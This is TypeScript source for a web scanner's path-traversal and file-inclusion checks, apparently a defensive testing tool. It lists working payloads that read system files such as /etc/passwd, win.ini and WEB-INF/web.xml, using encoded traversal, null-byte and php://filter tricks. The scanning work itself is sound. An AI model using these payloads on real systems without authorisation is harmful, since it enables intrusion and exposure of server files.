// Checks for path traversal and local file inclusion: a value leads to a system file whose content is known.

import type { Context, PointCheck, TargetCheck } from '../check.ts'
import { settle } from '../found.ts'
import { readJson } from '../json-leaves.ts'
import { quietly, takesText, textValue } from '../probing.ts'
import type { Exchange, Operation, Point } from '../types.ts'

const UP = '../'.repeat(8)

type Reading = { value: string; wrong: string; isRaw?: boolean; shows: (text: string) => string | null }

/** Lines that such a file always contains. */
export const passwdIn = (text: string): string | null => /root:[^:\n]{0,60}:0:0:[^\n<"]{0,80}/.exec(text)?.[0] ?? null
const iniIn = (text: string): string | null =>
  /; for 16-bit app support|\[fonts\][^[]{0,200}\[extensions\]/i.exec(text)?.[0] ?? null
const webXmlIn = (text: string): string | null => /<web-app[\s>][^<]{0,300}/.exec(text)?.[0] ?? null
const base64PhpIn = (text: string): string | null =>
  /(?:PD9waHA|PCFET0NUWVBF|PGh0bWw)[A-Za-z0-9+/]{40,}={0,2}/.exec(text)?.[0] ?? null

const unix = (value: string, isRaw = false): Reading => ({
  value,
  wrong: value.replace('passwd', 'pazzwd'),
  isRaw,
  shows: passwdIn,
})

function readings(text: string): Reading[] {
  const extension = /\.\w{1,5}$/.exec(text)?.[0] ?? '.png'
  const folder = /^(.*\/)[^/]*$/.exec(text)?.[1] ?? ''
  return [
    unix(`${UP}etc/passwd`),
    unix('/etc/passwd'),
    unix(`....//....//....//....//....//....//....//....//etc/passwd`),
    unix(`${UP}etc/passwd\u0000${extension}`),
    unix('file:///etc/passwd'),
    unix(`..%252f..%252f..%252f..%252f..%252f..%252fetc%252fpasswd`, true),
    unix(`..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd`),
    ...(folder ? [unix(`${folder}${UP}etc/passwd`)] : []),
    unix(`/var/www/${UP}etc/passwd`),
    { value: `${'..\\'.repeat(8)}windows\\win.ini`, wrong: `${'..\\'.repeat(8)}windows\\wim.ini`, shows: iniIn },
    { value: 'C:\\Windows\\win.ini', wrong: 'C:\\Windows\\wim.ini', shows: iniIn },
    ...['', '/', '../', '../../'].map((way) => ({
      value: `${way}WEB-INF/web.xml`,
      wrong: `${way}WEB-INF/wed.xml`,
      shows: webXmlIn,
    })),
    {
      value: 'php://filter/convert.base64-encode/resource=index.php',
      wrong: 'php://filter/convert.base64-encode/resource=indez.php',
      shows: base64PhpIn,
    },
  ]
}

export const files: PointCheck = {
  kind: 'point',
  id: 'path-traversal',
  title: 'Arbitrary file read (path traversal)',
  cwes: [22],
  severity: 'HIGH',
  solution: 'Resolve the path and reject what is outside the intended folder; better, choose files from an allowlist.',
  profile: 'BALANCED',
  accepts: takesText,
  async probe(point, operation, context) {
    for (const reading of readings(textValue(point))) {
      const shown = await read(reading, point, operation, context)
      if (!shown) continue
      settle(22, operation, point, context)
      const isInclude = /php:\/\//.test(reading.value)
      const isUrl = reading.value.startsWith('file:')
      return {
        cwes: isInclude ? [98, 22] : isUrl ? [918, 22] : undefined,
        detail: `The value ${reading.value.replaceAll('\u0000', '%00')} returns the contents of that file; a name with one wrong letter does not.`,
        proof: [shown.proof],
        exchange: shown.exchange,
      }
    }
    return null
  },
}

async function read(
  { value, wrong, isRaw, shows }: Reading,
  point: Point,
  operation: Operation,
  context: Context,
): Promise<{ exchange: Exchange; proof: string } | null> {
  const exchange = await context.attempt(operation, [{ point, value, isRaw }])
  const proof = exchange && contentIn(exchange, shows)
  if (!exchange || !proof) return null
  const other = await context.attempt(operation, [{ point, value: wrong, isRaw }])
  return other && !contentIn(other, shows) ? { exchange, proof } : null
}

/** Matches the text itself or text that it contains as Base64. */
function contentIn({ text }: Exchange, shows: Reading['shows']): string | null {
  const plain = shows(text)
  if (plain) return plain
  const isEncoded = /^\s*[A-Za-z0-9+/]{60,}={0,2}\s*$/.test(text) || /base64/.test(text) || readJson(text) !== undefined
  const encoded = !isEncoded ? [] : (text.match(/[A-Za-z0-9+/]{60,40000}={0,2}/g) ?? [])
  const found = encoded.slice(0, 5).find((one) => shows(Buffer.from(one, 'base64').toString('latin1')))
  return found?.slice(0, 80) ?? null
}

/** A file server that leaves its root folder, wherever that is. */
export const fileServer: TargetCheck = {
  kind: 'target',
  id: 'file-server-traversal',
  title: 'Path traversal out of the web root',
  cwes: [22],
  severity: 'HIGH',
  solution: 'Decode and resolve the path before comparing it with the folder.',
  profile: 'BALANCED',
  async *probe(context) {
    const folders = new Set(['/'])
    for (const { path } of context.operations) {
      const folder = /^((?:\/[^/{}?]{1,60}){1,3})\//.exec(path)?.[1]
      if (folder && folders.size < 12) folders.add(`${folder}/`)
    }
    for (const folder of [...folders, '/static/', '/assets/', '/public/', '/files/', '/images/']) {
      for (const step of ['../', '..%2f', '%2e%2e/', '%2e%2e%2f', '..%5c', '.%2e/', '//../']) {
        const url = `${context.target.origin}${folder}${step.repeat(8)}etc/passwd`
        const ask = (address: string) =>
          context.send({ method: 'GET', url: address, headers: [['Host', context.target.host]], body: null })
        const exchange = await quietly(ask(url))
        const proof = exchange && passwdIn(exchange.text)
        if (!exchange || !proof) continue
        const wrong = await quietly(ask(url.replace('passwd', 'pazzwd')))
        if (!wrong || passwdIn(wrong.text)) continue
        yield {
          detail: `${folder}${step}… returns a system file.`,
          proof: [proof],
          exchange,
          cause: `${context.target.origin}${folder}`,
        }
        break
      }
    }
  },
}
